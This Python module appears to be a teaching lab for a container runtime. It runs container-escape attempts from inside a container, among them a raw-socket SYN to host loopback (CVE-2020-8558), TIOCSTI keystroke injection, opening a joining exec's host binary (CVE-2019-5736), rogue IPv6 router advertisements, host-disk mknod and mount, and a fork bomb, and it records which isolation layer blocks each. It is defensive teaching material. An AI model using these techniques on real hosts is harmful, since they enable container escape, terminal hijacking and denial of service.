"""The escape lab: what an attacker inside a container tries, and which layer stops it.

Each attack runs as root inside a default container and exits 0 only if it got
through. `stopped_by` names the layer that stops it; where it is safe, `shown_with`
gives the container options (that layer switched off) under which the very same
attack succeeds — proof that it is that layer doing the work. `behind_it` names
the layer that still stops the attack when the first one is switched off (defence
in depth), with the options that switch the first one off. An option may be a
function of the Target (the lab's own network, say). Where success shows only on the
host, `seen_on_host` looks there after the attack, while its container still exists.

Nothing here changes the host, even when an attack succeeds: escapes read a marker
file, signal 0 and trace a sleeping process the lab starts for the purpose, connect
to a loopback port the lab opens, and probe the kernel's switches (/proc/sys,
sysrq-trigger) only with access(2), which asks "could I write?" without writing.
The packet for 127.0.0.1 goes only to a bridge the lab made, and asks only for a TCP
handshake with the lab's own loopback service, which it then resets.
Router advertisements go only to bridges the lab made for them, with a prefix from
the documentation range (2001:db8::/32) and no default route; the bridges go after.
The device node an image (or a host directory given as a volume) brings names a loop
device the lab attaches, read-only, to a file holding the marker: reading it proves
the host's device, and cannot harm it.
A fork bomb and a memory hog are only ever run under a limit.
"""
from __future__ import annotations

import os
import re
import shutil
import signal
import socket
import stat
import struct
import subprocess
import sys
import tempfile
import termios
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from functools import partial
from pathlib import Path

from . import namespaces as ns
from . import network, process, syscalls
from .chroot import escape_chroot
from .container import Container
from .rootfs import default_rootfs
from .security import Security

# A default container's namespaces, less one: that layer switched off.
NOT_PID, NOT_NET, NOT_MNT = (ns.DEFAULT - {kind} for kind in ("pid", "net", "mnt"))


@dataclass(frozen=True)
class Target:
    """What the lab puts on the host for the attacker to reach for."""

    marker: str      # a host file no container should be able to read
    pid: int         # a host process (a sleep the lab started)
    port: int        # a host service on 127.0.0.1
    disk: str        # major:minor of the host's root filesystem device
    network: str     # a bridge network of the lab's own (as the runtime makes them)
    network_taking_ras: str   # the same, but taking IPv6 router advertisements
    network_unguarded: str    # the same, but letting packets for 127.0.0.0/8 in
    image: str       # the busybox image plus /lab-disk, a node for a host loop device
    fd: int          # an open directory fd of the caller's, on the marker's directory
    volume: str      # a host directory holding lab-disk, a node for the same loop device


@dataclass(frozen=True)
class Attack:
    """One attack from inside a container, and which layer stops it (see the module)."""
    name: str
    command: str | Callable[[Target], None]   # shell (with $MARKER $PID $PORT $DISK) or Python
    stopped_by: str
    shown_with: dict | None = None            # options under which it safely succeeds
    behind_it: tuple[dict, str] | None = None  # (first layer off, the layer that then stops it)
    options: dict = field(default_factory=dict)  # what this attack's container always gets
    seen_on_host: Callable[[Container], str] | None = None   # the proof, if it is outside
    # What the host does meanwhile, from another thread (an `exec` into it), given the
    # container and the lab's own switches (e.g. hardened=False).
    meanwhile: Callable[..., None] | None = None
    # Stopped by the runtime's own conduct (what it closes, which terminal and process
    # state it hands on), not by an isolation feature of the kernel it switches on: a
    # runtime bug, not a kernel bug, is the way past it (runc's CVEs).
    by_the_runtime: bool = False


@dataclass
class Outcome:
    """How one attempt went: did it get through, and what it printed."""
    escaped: bool
    evidence: str     # the last lines it printed


def break_out_of_chroot(target: Target) -> None:
    """Climb out of a chroot with a second chroot (chroot.escape_chroot)."""
    escape_chroot(target.marker)


def trace_host_process(target: Target) -> None:
    """ptrace(2) the lab's sleeping host process."""
    syscalls.ptrace_attach(target.pid)
    print(f"attached to {target.pid}", flush=True)


def find_writable_kernel_switches(target: Target) -> None:
    """access(2) with W_OK: the kernel's answer to "may I write?", nothing written."""
    switches = [p for p in ("/proc/sysrq-trigger", "/proc/sys/kernel/core_pattern")
                if os.path.exists(p)]
    writable = [p for p in switches if os.access(p, os.W_OK)]
    print("writable:", " ".join(writable) or "none", flush=True)
    if not writable:
        raise SystemExit(1)


LAB_PREFIX = "2001:db8:6d63::"   # documentation range; 6d63 is "mc"


def advertise_a_router(target: Target) -> None:
    """Send eth0's neighbours an IPv6 router advertisement, as a router would: "take an
    address from 2001:db8:6d63::/64, and the route to it through me"."""
    wait_for_link_local("eth0")               # a router speaks from its link-local address
    prefix_option = struct.pack("!BBBBIII16s", 3, 4, 64, 0xC0,   # on-link, autonomous
                                600, 300, 0, socket.inet_pton(socket.AF_INET6, LAB_PREFIX))
    # type 134, code 0, checksum (the kernel's), hop limit, flags, router lifetime 0 (no
    # default route through us), reachable time, retransmit timer; then the prefix.
    advertisement = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, 0, 0, 0) + prefix_option
    with socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6) as s:
        s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_HOPS, 255)  # as RFC 4861
        s.sendto(advertisement, ("ff02::1", 0, 0, socket.if_nametoindex("eth0")))
    print(f"advertised {LAB_PREFIX}/64 to ff02::1 on eth0", flush=True)


def wait_for_link_local(interface: str, timeout: float = 5) -> None:
    """Until `interface` has a link-local address past duplicate address detection."""
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        for line in open("/proc/net/if_inet6").read().splitlines():
            address, _, _, scope, flags, name = line.split()
            if name == interface and scope == "20" and not int(flags, 16) & 0x40:  # tentative
                return
        time.sleep(0.05)
    raise SystemExit(f"{interface} has no link-local address")


def bridge_took_the_advertisement(container: Container) -> str:
    """The addresses and routes from the lab's prefix on the container's bridge, if any."""
    bridge = container.attachment.network
    for _ in range(20):                       # the kernel acts on it within milliseconds
        shown = subprocess.run(["ip", "-6", "addr", "show", "dev", bridge], capture_output=True,
                               text=True).stdout + subprocess.run(
            ["ip", "-6", "route", "show", "dev", bridge], capture_output=True, text=True).stdout
        learnt = [line.strip().split()[1 if "inet6" in line else 0]
                  for line in shown.splitlines() if LAB_PREFIX[:-1] in line]
        if learnt:
            return f"the host's {bridge} took " + ", ".join(learnt)
        time.sleep(0.1)
    return ""


def reach_host_loopback_through_the_bridge(target: Target) -> None:
    """Send the host a TCP SYN for 127.0.0.1:PORT, in an Ethernet frame addressed to the
    bridge (an AF_PACKET socket: NET_RAW, which a default container keeps). With
    route_localnet on the bridge (there for published ports) the host takes it as its
    own; a SYN-ACK back from 127.0.0.1 proves its loopback-only service answered
    (CVE-2020-8558). Our kernel drops that answer as a martian, but the raw socket sees
    it first; then a reset, so the service keeps nothing half-open of ours."""
    gateway = _default_gateway()
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        probe.connect((gateway, 9))          # the discard port: only to learn its MAC,
        probe.send(b"")                      # and which address is ours
        source = probe.getsockname()[0]
    ours = bytes.fromhex(Path("/sys/class/net/eth0/address").read_text().replace(":", ""))
    theirs = _neighbour_mac(gateway)
    port, sport, seq = target.port, 40000 + os.getpid() % 20000, 1
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800)) as raw:
        raw.bind(("eth0", 0x0800))
        raw.settimeout(0.2)
        deadline = time.monotonic() + 3
        while time.monotonic() < deadline:
            raw.send(theirs + ours + b"\x08\x00" + _tcp_packet(source, sport, port, seq, 0x02))
            for _ in range(5):
                try:
                    frame = raw.recv(2048)
                except TimeoutError:
                    break
                if _is_syn_ack(frame, sport, port):
                    raw.send(theirs + ours + b"\x08\x00"
                             + _tcp_packet(source, sport, port, seq + 1, 0x04))   # RST
                    print(f"SYN-ACK from 127.0.0.1:{port}: the host's loopback service "
                          "answered", flush=True)
                    return
    print(f"no answer from 127.0.0.1:{port} through {gateway}", flush=True)
    raise SystemExit(1)


def _default_gateway() -> str:
    """The default route's gateway, from /proc/net/route (hex, little-endian)."""
    for line in Path("/proc/net/route").read_text().splitlines()[1:]:
        fields = line.split()
        if fields[1] == "00000000":
            return socket.inet_ntoa(struct.pack("<I", int(fields[2], 16)))
    raise SystemExit("no default route")


def _neighbour_mac(address: str) -> bytes:
    """The MAC address of neighbour `address`, once ARP has found it (/proc/net/arp)."""
    for _ in range(50):
        for line in Path("/proc/net/arp").read_text().splitlines()[1:]:
            fields = line.split()
            if fields[0] == address and fields[2] == "0x2":
                return bytes.fromhex(fields[3].replace(":", ""))
        time.sleep(0.05)
    raise SystemExit(f"no MAC address for {address}")


def _checksum(data: bytes) -> int:
    """The Internet checksum (RFC 1071): ones' complement of the ones' complement sum."""
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def _tcp_packet(source: str, sport: int, port: int, seq: int, flags: int) -> bytes:
    """An IPv4 packet from `source` to 127.0.0.1 holding one TCP segment without data."""
    src, dst = socket.inet_aton(source), socket.inet_aton("127.0.0.1")
    tcp = struct.pack("!HHIIBBHHH", sport, port, seq, 0, 5 << 4, flags, 64240, 0, 0)
    tcp = tcp[:16] + struct.pack("!H", _checksum(src + dst + struct.pack("!BBH", 0, 6, 20)
                                                 + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, 1, 0x4000, 64, 6, 0, src, dst)
    return ip[:10] + struct.pack("!H", _checksum(ip)) + ip[12:] + tcp


def _is_syn_ack(frame: bytes, sport: int, port: int) -> bool:
    """Is this Ethernet frame a SYN-ACK from 127.0.0.1:port to our `sport`?"""
    ip = frame[14:]
    if frame[12:14] != b"\x08\x00" or len(ip) < 40 or ip[9] != 6 or ip[12:16] != bytes(
            [127, 0, 0, 1]):
        return False
    tcp = ip[(ip[0] & 0x0F) * 4:]
    source_port, destination_port = struct.unpack("!HH", tcp[:4])
    return (source_port, destination_port) == (port, sport) and tcp[13] & 0x12 == 0x12


def open_a_joining_process_exe(target: Target, seconds: float = 8) -> None:
    """Wait for a process to join us (`exec`) and open its /proc/PID/exe: before it execs,
    that is the host's Python. CVE-2019-5736 then waits for it to be idle and writes
    into it; this attack stops at reading its first bytes, which proves it reachable."""
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        for entry in os.listdir("/proc"):
            if not entry.isdigit() or int(entry) == os.getpid():
                continue
            try:
                with open(f"/proc/{entry}/exe", "rb") as exe:
                    head = exe.read(4)
                path = os.readlink(f"/proc/{entry}/exe")
            except OSError:
                continue
            if head == b"\x7fELF" and not path.startswith("/bin/busybox"):
                print(f"opened the host's {path} through /proc/{entry}/exe", flush=True)
                return
        time.sleep(0.01)
    print("no joining process could be opened", flush=True)
    raise SystemExit(1)


def join_with_exec(container: Container, hardened: bool = True) -> None:
    """The host runs `exec` into the container, a Python function that takes 3 s: a
    wide version of the moment before a real exec's execve."""
    time.sleep(0.5)
    container.exec(partial(time.sleep, 3), hardened=hardened)


TYPED = b"echo mc-typed-on-the-host\n"


@contextmanager
def a_persons_terminal(run_there: str) -> Iterator[int]:
    """A pty standing in for the terminal a person runs `exec` from: `run_there`
    (Python) runs with it as controlling terminal and stdio; yields the terminal's
    side of the person's shell, for the lab to look at afterwards."""
    terminal, shell_side = os.openpty()
    try:
        subprocess.run(["setsid", "--ctty", "--wait", sys.executable, "-c", run_there],
                       timeout=60, stdin=shell_side, stdout=shell_side, stderr=shell_side)
        yield shell_side
    finally:
        os.close(terminal)
        os.close(shell_side)


def exec_from_a_terminal(container: Container, hardened: bool = True) -> str:
    """A person runs `exec` from their shell's terminal (a pty of the lab's here), and
    the exec'd command pushes keys into that terminal's input with ioctl(TIOCSTI):
    keys their shell would read and run, as root, once `exec` returns. Nothing reads
    them here: the lab takes them back out of the terminal and shows them."""
    code = ("from minicontainer.escapes import _type_keys; "
            f"_type_keys({container.name!r}, {hardened})")
    with a_persons_terminal(code) as shell_side:
        os.set_blocking(shell_side, False)
        try:
            waiting = os.read(shell_side, 4096)    # what the shell would read next
        except BlockingIOError:
            waiting = b""
    return f"the host shell would read: {TYPED.decode().strip()}" if TYPED in waiting else ""


def _type_keys(name: str, hardened: bool) -> None:
    """In the person's `exec` (a process whose controlling terminal is the pty)."""
    import fcntl
    import termios      # imported here: inside, the container's / has no Python library

    def push_keys() -> None:
        """In the container: push each key into the input of our stdin's terminal."""
        for key in TYPED:
            fcntl.ioctl(0, termios.TIOCSTI, bytes([key]))
    Container.load(name).exec(push_keys, attach=True, interactive=True, hardened=hardened,
                              timeout=20)


def mute_the_terminal_of_exec(container: Container, hardened: bool = True) -> str:
    """A person runs `exec` from their terminal; the exec'd command switches off the
    terminal's echo through its stdout (it could as well read what is typed next)."""
    code = ("from minicontainer.container import Container; Container.load("
            f"{container.name!r}).exec(['stty', '-F', '/dev/stdout', '-echo'], attach=True, "
            f"hardened={hardened}, timeout=20)")
    with a_persons_terminal(code) as shell_side:
        echo = termios.tcgetattr(shell_side)[3] & termios.ECHO
    return "" if echo else "the person's terminal no longer echoes what they type"


ATTACKS = [
    Attack("use a directory fd the caller left open",
           "for fd in /proc/self/fd/*; do cat $fd/marker 2>/dev/null && exit 0; done; "
           "echo no inherited fd reaches the host; exit 1",
           "inherited fds closed before exec (close_range)",
           shown_with={"preserve_fds": lambda t: t.fd - 2}, by_the_runtime=True),
    Attack("type into the terminal that ran exec (TIOCSTI)", "sleep 4",
           "exec's process in a session of its own, with pipes for a terminal",
           shown_with={"hardened": False}, meanwhile=exec_from_a_terminal, by_the_runtime=True),
    Attack("take over the settings of the terminal that ran exec", "sleep 4",
           "pipes, never the caller's terminal, without -t",
           shown_with={"hardened": False}, meanwhile=mute_the_terminal_of_exec,
           by_the_runtime=True),
    Attack("open the host binary of a joining exec (CVE-2019-5736)",
           open_a_joining_process_exe, "exec's process non-dumpable until it execs",
           shown_with={"hardened": False}, meanwhile=join_with_exec, by_the_runtime=True),
    Attack("chroot breakout", break_out_of_chroot, "mount namespace (pivot_root)",
           shown_with={"namespaces": NOT_MNT}),
    Attack("mount the host's disk",
           "mknod /dev/hostdisk b ${DISK%:*} ${DISK#*:} && mount -o ro /dev/hostdisk /mnt "
           "&& ls /mnt", "capabilities (no MKNOD)",
           behind_it=({"security": Security(capabilities=False)}, "seccomp (mount)")),
    Attack("mount a new /proc and find its switches",
           "mount -t proc proc /mnt && ls /mnt/sys/kernel/core_pattern",
           "seccomp (mount)", shown_with={"security": Security.off()},
           behind_it=({"security": Security(seccomp=False)}, "capabilities (no SYS_ADMIN)")),
    Attack("see host processes", "cat /proc/$PID/cmdline | grep mc-escape-target",
           "pid namespace", shown_with={"namespaces": NOT_PID}),
    Attack("signal a host process", "kill -0 $PID", "pid namespace",
           shown_with={"namespaces": NOT_PID}),
    Attack("ptrace a host process", trace_host_process, "pid namespace",
           behind_it=({"namespaces": NOT_PID}, "capabilities (no SYS_PTRACE)")),
    Attack("raise its own limits (mount the cgroup tree)",
           "mount -t cgroup2 none /mnt || mount -t cgroup -o pids none /mnt",
           "seccomp (mount)",
           behind_it=({"security": Security(seccomp=False)}, "capabilities (no SYS_ADMIN)")),
    Attack("load a kernel module",
           # The kernel reading (and rejecting) our module counts: it was allowed to.
           "echo not-a-module > /tmp/evil.ko; out=$(insmod /tmp/evil.ko 2>&1); echo $out; "
           "case $out in *'invalid module format'*) exit 0;; esac; exit 1",
           "seccomp (init_module)",
           behind_it=({"security": Security(seccomp=False)}, "capabilities (no SYS_MODULE)")),
    Attack("reach a host loopback service", "echo hello | nc -w 2 127.0.0.1 $PORT",
           "network namespace", shown_with={"namespaces": NOT_NET}),
    Attack("reach a host loopback service through the bridge (CVE-2020-8558)",
           reach_host_loopback_through_the_bridge,
           "a rule dropping what the bridge sends to 127.0.0.0/8 (route_localnet is on)",
           shown_with={"network": lambda bait: bait.network_unguarded},
           options={"network": lambda bait: bait.network}),
    Attack("read the host kernel's internals",
           "cat /proc/timer_list /proc/interrupts /proc/keys 2>/dev/null | grep .",
           "masked paths", shown_with={"security": Security(system_paths=False)}),
    Attack("find a writable kernel switch", find_writable_kernel_switches, "read-only paths",
           shown_with={"security": Security(system_paths=False)}),
    Attack("fork bomb",
           "bomb() { bomb | bomb & }; bomb; sleep 3; n=$(ls -d /proc/[0-9]* | wc -l); "
           "echo $n processes; [ $n -gt 2000 ]", "cgroup pids limit (1024 by default)"),
    Attack("memory exhaustion", "tail /dev/zero", "cgroup memory limit (--memory)",
           options={"memory": "64M"}),
    Attack("open a host device through a node the image brings",
           "head -c 22 /lab-disk | grep host-only", "nodev on the image's mounts",
           options={"rootfs": lambda bait: bait.image},
           shown_with={"security": Security(devices=False)},
           behind_it=({"namespaces": NOT_MNT}, "the cgroup's device allow-list")),
    Attack("open a host device through a node in a volume (-v)",
           "head -c 22 /volume/lab-disk | grep host-only", "nodev on volumes",
           # No cgroup, so no device allow-list: nodev alone stands in the way.
           options={"volumes": lambda bait: [f"{bait.volume}:/volume"], "cgroup": False},
           shown_with={"security": Security(devices=False)}),
    Attack("configure the host's network (IPv6 router advertisement)", advertise_a_router,
           "bridge ignores router advertisements (accept_ra=0)",
           shown_with={"network": lambda bait: bait.network_taking_ras},
           options={"network": lambda bait: bait.network},
           seen_on_host=bridge_took_the_advertisement),
]


@contextmanager
def target() -> Iterator[Target]:
    """The bait on the host: a marker file, a sleeping process, a loopback service.
    All of it goes when the block ends, also after a second Ctrl-C; what a killed owner
    leaves (its loop device, its directory) `minicontainer cleanup` removes
    (lab_leftovers), and its sleeper dies with it."""
    tag = os.urandom(3).hex()
    networks = [f"mc-lab{tag}", f"mc-labra{tag}", f"mc-labio{tag}"]   # ours alone
    owner = f"{os.getpid()}-{process.start_time(os.getpid())}"     # lab_leftovers reads it
    directory = Path(tempfile.mkdtemp(prefix=f"mc-escape-{owner}-"))
    sleeper = listener = loop = fd = None
    try:
        sleeper = process.spawn([], [partial(syscalls.set_parent_death_signal, signal.SIGKILL)],
                                main=partial(os.execv, shutil.which("sleep"),
                                             ["mc-escape-target", "600"]))
        listener = socket.create_server(("127.0.0.1", 0))
        threading.Thread(target=_answer, args=(listener,), daemon=True).start()
        disk = os.stat("/").st_dev
        marker = directory / "marker"
        marker.write_text(f"host-only-{os.urandom(6).hex()}")
        # A shell's `exec 7< DIR`, a kernel's open directory: inheritable, as they are.
        fd = os.open(directory, os.O_RDONLY | os.O_DIRECTORY)
        os.set_inheritable(fd, True)
        network.create(networks[0])
        network.create(networks[1], router_advertisements=True)
        network.create(networks[2], localnet_guard=False)
        with process.interrupts_held():      # attached and known, or neither
            loop = attach_loop_device(marker)
        image = image_with_a_node(directory / "image", loop)
        volume = with_a_node(directory / "volume", loop)
        yield Target(str(marker), sleeper.pid, listener.getsockname()[1],
                     f"{os.major(disk)}:{os.minor(disk)}", *networks, str(image), fd,
                     str(volume))
    finally:
        with process.interrupts_held():      # a second Ctrl-C must not skip any of it
            _take_down(sleeper, listener, fd, networks, loop, directory)


def _take_down(sleeper: process.Child | None, listener: socket.socket | None,
               fd: int | None, networks: list[str], loop: str | None,
               directory: Path) -> None:
    """target()'s clean-up: each part that exists, the loop device first."""
    if loop:
        detach_loop_device(loop)
    if sleeper:
        sleeper.send_signal(signal.SIGKILL)
        sleeper.wait()
        sleeper.close()
    if listener:
        listener.close()
    process.close_all([fd])
    for name in set(networks) & set(network.names()):
        network.remove(name, force=True)
    shutil.rmtree(directory, ignore_errors=True)


def lab_leftovers() -> tuple[list[str], list[Path]]:
    """What labs whose owner died left (target() in a killed process): their directories
    and the loop devices over a disk file in one of them; what `minicontainer cleanup`
    removes. A living lab's are left alone: its directory is named
    mc-escape-PID-STARTTIME-… (the owner's pid and start time, in cleanup's pid namespace)."""
    pattern = re.compile(r"mc-escape-(?:(\d+)-(\d+)-)?[^/]*$")

    def ended(directory: Path) -> bool:
        """Its owner is dead (or it is named as before owners were)."""
        match = pattern.search(directory.name)
        return bool(match) and (not match[1]
                                or process.start_time(int(match[1])) != int(match[2]))

    def made_by_a_lab(directory: Path) -> bool:
        """A real directory of root's, as target()'s mkdtemp makes it: /tmp is everyone's,
        and another user's mc-escape-… (or a link named so) is not ours to remove. In
        sticky /tmp nobody else can rename root's directory, or put one in its place."""
        try:
            status = directory.lstat()
        except FileNotFoundError:
            return False
        return stat.S_ISDIR(status.st_mode) and status.st_uid == 0

    directories = [p for p in Path(tempfile.gettempdir()).glob("mc-escape-*")
                   if made_by_a_lab(p) and ended(p)]
    # Only over a disk file still in such a directory: a backing file's path is worked
    # out as it is read (a user can rename their own file or directory to any name), and
    # a deleted one is nowhere (unproven_lab_devices).
    disks = {str(directory / "disk") for directory in directories}
    devices = [device for device, backing in _loop_devices() if backing in disks]
    return devices, directories


def unproven_lab_devices() -> dict[str, str]:
    """Loop devices over a deleted /tmp/mc-escape-…/disk, with that path: perhaps a dead
    lab's, but a deleted file has no owner or place left to prove it, so cleanup names
    them and leaves them."""
    lab_disk = re.compile(re.escape(tempfile.gettempdir()) + r"/mc-escape-[^/]*/disk \(deleted\)$")
    return {device: backing for device, backing in _loop_devices() if lab_disk.match(backing)}


def _loop_devices() -> list[tuple[str, str]]:
    """(/dev/loopN, its backing file's path as the kernel says it now) for each in use."""
    return [(f"/dev/{backing.parent.parent.name}", backing.read_text().strip())
            for backing in Path("/sys/block").glob("loop*/loop/backing_file")]


def detach_loop_device(device: str) -> None:
    """losetup --detach, to the end (a Ctrl-C waits)."""
    process.run_to_the_end(["losetup", "--detach", device], check=True, capture_output=True)


def attach_loop_device(marker: Path) -> str:
    """A read-only loop device over a copy of the marker (a block device reads whole
    512-byte sectors, so the copy is padded to one)."""
    disk = marker.with_name("disk")
    disk.write_bytes(marker.read_bytes().ljust(512, b"\0"))
    return process.run_to_the_end(["losetup", "--find", "--show", "--read-only", disk],
                                  capture_output=True, text=True, check=True).stdout.strip()


def image_with_a_node(image: Path, device: str) -> Path:
    """A copy of the busybox image with /lab-disk: a node for `device`, as any image
    from anywhere may hold one (made here, on the host, where mknod is allowed)."""
    shutil.copytree(default_rootfs(), image, symlinks=True)
    return with_a_node(image, device)


def with_a_node(directory: Path, device: str) -> Path:
    """`directory` (made if missing) holding lab-disk, a node for `device`."""
    directory.mkdir(exist_ok=True)
    os.mknod(directory / "lab-disk", 0o600 | os.stat(device).st_mode & 0o170000,
             os.stat(device).st_rdev)
    return directory


def _answer(listener: socket.socket) -> None:
    while True:
        try:
            connection, _ = listener.accept()
        except OSError:
            return                    # closed: the lab is over
        with connection:
            connection.sendall(b"host service\n")


def attempt(attack: Attack, bait: Target | None = None, **changes) -> Outcome:
    """Run `attack` in a container with the attack's options, then `changes`; `bait`
    (target()) only for attacks that reach for it."""
    options = {key: value(bait) if callable(value) else value
               for key, value in {**attack.options, **changes}.items()}
    lab_switches = {key: options.pop(key) for key in ("hardened",) if key in options}
    if callable(attack.command):
        command = partial(attack.command, bait)
    else:
        command = ["/bin/sh", "-c", attack.command]
    env = {"MARKER": bait.marker, "PID": str(bait.pid), "PORT": str(bait.port),
           "DISK": bait.disk} if bait else {}
    with Container(command, env=env, **options) as container:
        container.start()
        host, proof = None, []
        if attack.meanwhile:
            host = threading.Thread(target=lambda: proof.append(
                attack.meanwhile(container, **lab_switches)))
            host.start()
        result = container.wait(timeout=60)
        if host:
            host.join()
        seen = attack.seen_on_host(container) if attack.seen_on_host else None
        if proof and isinstance(proof[0], str):     # the host saw it: that is the proof
            seen = proof[0]
    text = (result.stdout + result.stderr).strip().splitlines() + [seen or ""]
    evidence = " / ".join(filter(None, text[-3:])).replace("\0", " ")
    if not evidence and result.signal:
        evidence = f"killed by {result.signal}"
    return Outcome(result.exit_code == 0 and seen != "", evidence[:200])


def run_lab(attacks: list[Attack] = ATTACKS, layers_off: bool = True,
            progress_factory=None) -> list[dict]:
    """Every attack against a default container; a row per attack, for a table.

    With `layers_off`, each attack is tried again with its layer switched off where
    that is safe (it should get through), or else with the first layer off (the next
    one should stop it). progress_factory(total, name) → a tick called per attack
    (course.panels.progress: a bar in the notebook).
    """
    rows = []
    tick = progress_factory(len(attacks), "escape lab") if progress_factory else None
    with target() as bait:
        for attack in attacks:
            outcome = attempt(attack, bait)
            row = {"attack": attack.name, "blocked": not outcome.escaped,
                   "stopped by": attack.stopped_by, "by the runtime": attack.by_the_runtime,
                   "evidence": outcome.evidence}
            if layers_off and attack.shown_with:
                off = attempt(attack, bait, **attack.shown_with)
                row["with it off"] = "gets through" if off.escaped else "still blocked"
            elif layers_off and attack.behind_it:
                off = attempt(attack, bait, **attack.behind_it[0])
                row["with it off"] = ("gets through" if off.escaped
                                      else f"stopped by {attack.behind_it[1]}")
            else:
                row["with it off"] = "not tried: it would harm the host"
            rows.append(row)
            if tick:
                tick()
    return rows
